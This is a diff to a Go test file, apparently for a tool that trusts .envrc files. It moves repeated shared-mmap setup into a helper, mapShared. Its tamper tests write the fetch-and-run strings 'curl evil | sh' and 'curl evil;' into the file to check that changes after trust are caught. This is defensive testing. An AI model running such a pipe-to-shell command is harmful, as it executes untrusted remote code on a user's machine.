@@ -152,15 +152,7 @@ func TestReleaseStill(t *testing.T) {
 			writeThrough(t, outside, "curl evil | sh\n")
 		}, envrcTrusted(envrc, trusted)},
 		{"written through a shared mapping, its process gone", nil, func() {
-			f, err := os.OpenFile(envrc, os.O_RDWR, 0)
-			if err != nil {
-				t.Fatal(err)
-			}
-			m, err := unix.Mmap(int(f.Fd()), 0, len(trusted), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
-			f.Close()
-			if err != nil {
-				t.Fatal(err)
-			}
+			m := mapShared(t, envrc, len(trusted))
 			copy(m, "curl evil;")
 			unix.Munmap(m)
 		}, envrcTrusted(envrc, trusted)},
@@ -197,15 +189,7 @@ func TestReleaseStillMappedBefore(t *testing.T) {
 		t.Fatal(err)
 	}
 	s.command(func() {})
-	f, err := os.OpenFile(envrc, os.O_RDWR, 0)
-	if err != nil {
-		t.Fatal(err)
-	}
-	m, err := unix.Mmap(int(f.Fd()), 0, len(trusted), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
-	f.Close()
-	if err != nil {
-		t.Fatal(err)
-	}
+	m := mapShared(t, envrc, len(trusted))
 	defer unix.Munmap(m)
 	if _, reconciled := s.command(func() {}); reconciled {
 		t.Error("a mapping made and not written: reconciled")
@@ -287,6 +271,22 @@ func envrcTrusted(envrc string, trusted []byte) func() string {
 		}
 		return ""
 	}
+}
+
+// mapShared maps the first n bytes of the file name shared and
+// writable; its descriptor is closed (the mapping holds the file).
+func mapShared(t *testing.T, name string, n int) []byte {
+	t.Helper()
+	f, err := os.OpenFile(name, os.O_RDWR, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	m, err := unix.Mmap(int(f.Fd()), 0, n, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return m
 }
 
 // writeThrough writes content over name in place (the same file).
